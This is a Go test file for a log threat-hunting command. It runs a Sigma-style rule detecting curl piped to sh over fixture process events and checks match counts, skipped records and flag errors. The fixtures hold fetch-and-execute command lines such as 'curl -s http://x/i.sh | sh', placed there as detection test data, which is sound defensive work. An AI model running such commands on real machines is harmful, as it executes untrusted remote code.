package hunt

import (
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/rangehunt/rangehunt/internal/cmdutil"
	"github.com/rangehunt/rangehunt/internal/testutil"
)

const ruleYAML = `title: Curl to shell
id: 0f6b2b4e-1c33-4a55-9a7e-3f2d1c0b9e11
level: high
tags: [attack.execution, attack.t1059.004]
logsource: {category: process_creation, product: linux}
detection:
  selection:
    Image|endswith: /curl
    CommandLine|contains: '| sh'
  condition: selection
---
title: Broken regex
id: 1f6b2b4e-1c33-4a55-9a7e-3f2d1c0b9e12
logsource: {category: process_creation, product: linux}
detection:
  selection:
    CommandLine|re: '(?<=x)y'
  condition: selection
`

func runCmd(t *testing.T, args ...string) (string, string, error) {
	t.Helper()
	return testutil.RunCommand(t, NewCmd, args...)
}

func TestHuntCommand(t *testing.T) {
	dir := t.TempDir()
	rules := filepath.Join(dir, "rules.yml")
	logs := filepath.Join(dir, "events.ndjson")
	os.WriteFile(rules, []byte(ruleYAML), 0o644)
	os.WriteFile(logs, []byte(strings.Join([]string{
		`{"@timestamp":"2026-03-01T10:00:00Z","event":{"category":["process"],"type":["start"]},"process":{"executable":"/usr/bin/curl","command_line":"curl -s http://x/i.sh | sh"}}`,
		`{"@timestamp":"2026-03-01T10:00:01Z","event":{"category":["process"],"type":["end"]},"process":{"executable":"/usr/bin/curl","command_line":"curl -s http://x/i.sh | sh"}}`,
		`{"truncated":`,
		`{"@timestamp":"2026-03-01T10:00:02Z","event":{"category":"process","type":"start"},"process":{"executable":"/usr/bin/CURL","command_line":"CURL http://y | SH"}}`,
	}, "\n")+"\n"), 0o644)

	for _, workers := range []string{"1", "2"} {
		out, errOut, err := runCmd(t, "--rules", rules, "--logs", logs, "--workers", workers)
		if err != nil {
			t.Fatalf("hunt: %v\n%s", err, errOut)
		}
		lines := strings.Split(strings.TrimSpace(out), "\n")
		if len(lines) != 2 {
			t.Fatalf("workers %s: %d matches, want 2 (the process end event is not a process start):\n%s", workers, len(lines), out)
		}
		var m struct {
			Rule struct {
				ID, Title, Level string
				Tags             []string
			}
			File  string
			Line  int
			Event map[string]any
		}
		if err := json.Unmarshal([]byte(lines[1]), &m); err != nil {
			t.Fatal(err)
		}
		if m.Rule.ID != "0f6b2b4e-1c33-4a55-9a7e-3f2d1c0b9e11" || m.Rule.Level != "high" || len(m.Rule.Tags) != 2 ||
			m.File != logs || m.Line != 4 || m.Event["process"] == nil {
			t.Errorf("match = %+v", m)
		}
		for _, want := range []string{
			"rules: 1 run, 1 failed",
			"rules.yml:17:21: invalid regular expression",
			"  skipped 1: truncated",
			"skipped: " + logs + ": line 3, column 14 ",
			"events: 3 read, 2 matched; 1 records skipped",
			"       2  0f6b2b4e-1c33-4a55-9a7e-3f2d1c0b9e11",
		} {
			if !strings.Contains(errOut, want) {
				t.Errorf("workers %s: summary lacks %q:\n%s", workers, want, errOut)
			}
		}
	}
	// Several values after --rules and --logs (shell globs): the rule
	// file twice (its rule runs twice) over the log file twice gives
	// every match four times.
	out, errOut, err := runCmd(t, "--rules", rules, rules, "--logs", logs, logs, "--workers", "1")
	if err != nil || strings.Count(out, "\n") != 8 || !strings.Contains(errOut, "rules: 2 run") {
		t.Errorf("multi-value flags: %v, %d matches\n%s", err, strings.Count(out, "\n"), errOut)
	}
	// --no-event-kind: the process end event matches too.
	out, _, err = runCmd(t, "--rules", rules, "--logs", logs, "--no-event-kind")
	if err != nil || strings.Count(out, "\n") != 3 {
		t.Errorf("--no-event-kind: %v, %d matches", err, strings.Count(out, "\n"))
	}
}

func TestHuntUsageErrors(t *testing.T) {
	var fe *cmdutil.FlagError
	for _, args := range [][]string{
		{"--logs", "x"},
		{"--rules", "x", "--backend", "nope"},
		{"--rules", "x", "--logs", "y", "--workers", "0"},
		{"--rules", "x", "--logs", "y", "--pipeline", "no_such_pipeline"},
		{"--rules", "x", "--logs", "y", "--workers"},
		{"--bogus"},
		{"stray", "--rules", "x"},
	} {
		_, _, err := runCmd(t, args...)
		if !errors.As(err, &fe) {
			t.Errorf("%v: got %v, want a usage error", args, err)
		}
	}
	dir := t.TempDir()
	rules := filepath.Join(dir, "r.yml")
	os.WriteFile(rules, []byte(ruleYAML), 0o644)
	out, _, err := runCmd(t, "--help")
	if err != nil || !strings.Contains(out, "--no-event-kind") {
		t.Errorf("--help: %v\n%s", err, out)
	}
	_, errOut, err := runCmd(t, "--rules", rules, "--logs", filepath.Join(dir, "missing.ndjson"))
	if err == nil || !strings.Contains(err.Error(), "missing.ndjson") || strings.Contains(errOut, "events:") {
		t.Errorf("missing log file: got %v, and a summary:\n%s", err, errOut)
	}
	_, _, err = runCmd(t, "--rules", rules, "--logs", dir)
	if err == nil || !strings.Contains(err.Error(), "is a folder") {
		t.Errorf("folder as log file: got %v", err)
	}
}
